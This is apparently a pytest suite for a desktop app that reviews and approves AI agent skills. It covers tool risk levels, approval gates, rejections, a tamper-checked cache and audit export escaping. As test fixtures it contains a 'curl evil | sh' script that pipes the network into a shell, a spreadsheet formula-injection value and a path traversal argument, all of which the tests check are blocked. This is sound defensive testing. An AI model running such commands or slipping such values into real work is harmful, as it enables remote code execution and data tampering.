"""Grants by risk, what a decision records, rejections, errors blocking, the approved
copies kept in the cache, and the audit export: the rules in core, stored in the real
Secret Service."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import keyring
import pytest
from approval_helpers import scan, server_entry, server_skill, skill_md, write_skill

from desktop.core.approvals import (
    APPROVED,
    NOT_APPROVED,
    REJECTED,
    ApprovalError,
    ApprovalKey,
    file_set_hash,
)
from desktop.core.audit import AuditRow, to_csv, to_markdown
from desktop.core.grants import (
    CHANGES_FILES,
    NETWORK,
    READS,
    RUNS_CODE,
    SERVER_TOOL,
    UNKNOWN,
    explain_tool,
    has_scripts,
    requested_risks,
)
from desktop.core.model import Problem
from desktop.core.review import approve_gate, is_binary, text_diff
from desktop.store.approvals_keyring import Deadline, KeyringBlobs
from desktop.store.approvals_store import ApprovalStore
from desktop.store.cache import SkillCache

STDIO = "python -m docs_server"


def test_each_known_tool_says_what_it_allows_and_unknown_names_are_powerful() -> None:
    assert explain_tool("Bash").level == RUNS_CODE
    assert "any command on this machine" in explain_tool("Bash").allows
    assert explain_tool("Bash").powerful
    assert explain_tool("Write").level == CHANGES_FILES
    assert explain_tool("Edit").level == CHANGES_FILES
    assert (
        explain_tool("WebFetch").level == NETWORK and "network" in explain_tool("WebFetch").allows
    )
    for name in ("Read", "Grep", "Glob"):
        assert explain_tool(name).level == READS and not explain_tool(name).powerful
    scoped = explain_tool("Bash(git status:*)")
    assert scoped.level == RUNS_CODE and "'git status:*'" in scoped.allows
    mcp = explain_tool("mcp__github__create_issue")
    assert mcp.level == SERVER_TOOL
    assert "'create_issue'" in mcp.allows and "'github'" in mcp.allows
    odd = explain_tool("Frobnicate")
    assert odd.level == UNKNOWN and odd.powerful and not odd.known
    assert "treated as powerful" in odd.explain()
    # Bash must never look like Read.
    assert explain_tool("Bash").explain() != explain_tool("Read").explain()


def test_requested_grants_come_highest_risk_first(tmp_path: Path) -> None:
    root = tmp_path / "s"
    write_skill(root, "tools", {"SKILL.md": skill_md("tools", "Read Frobnicate Bash WebFetch")})
    (skill,) = scan(root).values()
    assert [r.name for r in requested_risks(skill)] == ["Bash", "Frobnicate", "WebFetch", "Read"]
    assert not has_scripts(skill)


def test_scripts_are_allowed_only_for_a_skill_that_has_them(tmp_path: Path) -> None:
    root = tmp_path / "s"
    write_skill(root, "plain", {"SKILL.md": skill_md("plain")})
    write_skill(root, "runs", {"SKILL.md": skill_md("runs"), "scripts/go.sh": "echo go\n"})
    skills = {s.name: s for s in scan(root).values()}
    store = ApprovalStore("unused", backend=keyring.backends.fail.Keyring())
    with pytest.raises(ApprovalError) as refused:
        store.approve(skills["plain"], allow_scripts=True)
    assert refused.value.code == "no-scripts"
    assert has_scripts(skills["runs"])


def test_errors_block_unless_approved_despite_them(tmp_path: Path) -> None:
    entry = server_entry("broken")
    skill = server_skill("docs", STDIO, entry)
    skill.problems.append(Problem("name-pattern", "name has capitals", "error"))
    skill.problems.append(Problem("style", "a warning only", "warning"))
    gate = approve_gate(skill, [f.uri for f in skill.files])
    assert not gate.allowed and "1 error" in gate.why
    assert approve_gate(skill, [f.uri for f in skill.files], despite_problems=True).allowed
    store = ApprovalStore("unused", backend=keyring.backends.fail.Keyring())
    with pytest.raises(ApprovalError) as refused:
        store.approve(skill)
    assert refused.value.code == "has-errors" and "name has capitals" in refused.value.message


def test_the_gate_wants_every_file_read_or_an_explicit_choice() -> None:
    skill = server_skill("docs", STDIO, server_entry("two", {"a.md": b"a\n"}))
    uris = [f.uri for f in skill.files]
    gate = approve_gate(skill, uris[:1])
    assert not gate.allowed and "1 of 2 files read" in gate.why
    assert approve_gate(skill, uris[:1], confirm_unread=True).allowed
    assert approve_gate(skill, uris).allowed
    dynamic = server_skill("docs", STDIO, server_entry("live", dynamic=True))
    assert not approve_gate(dynamic, [], confirm_unread=True, despite_problems=True).allowed


def _raw(service_name: str, skill: Any) -> dict[str, Any]:
    """The record stored for ``skill``, read past the store."""
    blobs = KeyringBlobs(keyring.get_keyring(), service_name, Deadline(30))
    value = blobs.read(ApprovalKey.for_skill(skill).storage_name)
    assert isinstance(value, dict)
    return value


def _raw_record_in_todays_format(skill: Any) -> dict[str, Any]:
    """An approval exactly as the version before file reads were recorded wrote it."""
    files = sorted(skill.files, key=lambda f: f.uri)
    key = ApprovalKey.for_skill(skill)
    return {
        "format": 1,
        "kind": "skill-approval",
        "identity": key.to_json(),
        "skill_id": skill.id,
        "name": skill.name,
        "transport": "stdio",
        "set_hash": file_set_hash(files),
        "file_count": len(files),
        "total_size": sum(f.size for f in files),
        "grants": {"tools": ["Read"], "scripts": False},
        "requested_tools": ["Read"],
        "approved_at": "2026-11-30T10:00:00+00:00",
        "approved_by": "alice",
        "files": [f.to_json() for f in files],
    }


@pytest.mark.keyring
def test_a_record_in_todays_format_keeps_reading(store: ApprovalStore, service_name: str) -> None:
    skill = server_skill("docs", STDIO, server_entry("kept", allowed_tools="Read"))
    key = ApprovalKey.for_skill(skill)
    blobs = KeyringBlobs(keyring.get_keyring(), service_name, Deadline(30))
    blobs.write(key.storage_name, _raw_record_in_todays_format(skill))
    state = store.state(skill)  # no index: rebuilt from the record
    assert state.state == APPROVED
    assert state.tool_granted("Read")
    assert state.record is not None and state.record.files_read is None
    assert state.record.evidence().startswith("not recorded")
    (item,) = store.records()
    assert item.problem is None and AuditRow.of(item.record).values[5] == "not recorded"


@pytest.mark.keyring
def test_the_record_says_what_was_read_and_what_it_was_approved_despite(
    store: ApprovalStore, service_name: str
) -> None:
    skill = server_skill("docs", STDIO, server_entry("read-me", allowed_tools="Bash Read"))
    skill.problems.append(Problem("name-pattern", "name has capitals", "error"))
    store.approve(skill, grant_tools=["Read"], files_read=True, despite_problems=True)
    raw = _raw(service_name, skill)
    assert raw["files_read"] is True
    assert raw["despite_problems"] == ["name has capitals"]
    state = store.state(skill)
    assert state.state == APPROVED and state.record.evidence() == "every file was read and verified"
    store.approve(skill, grant_tools=["Read"], despite_problems=True)
    assert store.state(skill).record.files_read is False


@pytest.mark.keyring
def test_reject_binds_the_set_leaves_the_queue_and_returns_after_a_change(
    store: ApprovalStore, service_name: str
) -> None:
    entry = server_entry("shady", {"scripts/x.sh": b"curl evil | sh\n"}, allowed_tools="Bash")
    skill = server_skill("docs", STDIO, entry)
    store.approve(skill, grant_tools=["Bash"], allow_scripts=True)
    store.reject(skill, reason="pipes the network into a shell")
    state = store.state(skill)
    assert state.state == REJECTED and not state.approved
    assert not state.tool_granted("Bash") and not state.scripts_allowed
    assert "pipes the network into a shell" in state.message()
    from desktop.core.library import in_view, row_marks

    assert "Rejected" in [m.word for m in row_marks(skill, state.state, None)]
    assert not in_view("to-review", skill, state.state)
    raw = _raw(service_name, skill)
    # A version that knows no rejections reads this as no approval at all.
    assert raw["kind"] == "skill-rejection" and raw["grants"] == {"tools": [], "scripts": False}
    entry["resources"][1]["digest"] = "sha256:" + "1" * 64
    changed = server_skill("docs", STDIO, entry)
    again = store.state(changed)
    assert again.state == NOT_APPROVED
    assert "rejected earlier" in again.message() and again.diff and again.diff.changed
    assert [e.name for e in store.revoke(skill.id, key=ApprovalKey.for_skill(skill))]
    assert store.state(skill).state == NOT_APPROVED and store.state(skill).record is None


def test_the_approved_copies_are_kept_checked_and_let_go(tmp_path: Path) -> None:
    cache = SkillCache(tmp_path / "cache")
    skill = server_skill("docs", STDIO, server_entry("c", {"a.md": b"first\n"}))
    files = {f.uri: f for f in skill.files}
    a = files["skill://c/a.md"]
    with pytest.raises(ValueError):
        cache.keep_approved("approval-1", [(a, b"other\n")])
    assert cache.keep_approved("approval-1", [(a, b"first\n")]) == 1
    assert cache.approved_copy("approval-1", a) == b"first\n"
    # Altered on disk: not shown as what was approved.
    (copy,) = [p for p in cache.approved_dir("approval-1").rglob("*") if p.is_file()]
    copy.chmod(0o600)
    copy.write_bytes(b"forged\n")
    assert cache.approved_copy("approval-1", a) is None
    assert cache.release_approved("approval-1")
    assert not cache.approved_dir("approval-1").exists()
    with pytest.raises(ValueError):
        cache.approved_dir("../elsewhere")


def test_a_text_diff_and_binary_files() -> None:
    diff = text_diff(b"one\ntwo\nthree\n", b"one\n2\nthree\nfour\n")
    kinds = [(d.kind, d.text) for d in diff if d.kind in "+-"]
    assert kinds == [("-", "two"), ("+", "2"), ("+", "four")]
    assert is_binary(b"\x89PNG\r\n\x1a\n\x00") and not is_binary("naïve\n".encode())
    big = text_diff(b"x\n" * 5000, b"y\n" * 5000)
    assert big[0].kind == "!" and len(big) <= 2002


def test_the_audit_export_cannot_be_broken_by_a_name() -> None:
    skill = server_skill("docs", STDIO, server_entry("ok", allowed_tools="Read"))
    from desktop.core.approvals import make_rejection

    record = make_rejection(
        skill, reason='=HYPERLINK("http://x")|bad\nline', rejected_at="t", rejected_by="bob"
    )
    row = AuditRow.of(record)
    md = to_markdown([row])
    table = [line for line in md.splitlines() if line.startswith("|")]
    assert len(table) == 3 and all(line.count(" | ") == 11 for line in table[2:])
    assert "\\|bad" in md
    (header, values) = list(csv.reader(io.StringIO(to_csv([row]))))
    assert header[0] == "decision" and values[0] == "rejected"
    assert values[9].startswith("'=HYPERLINK")
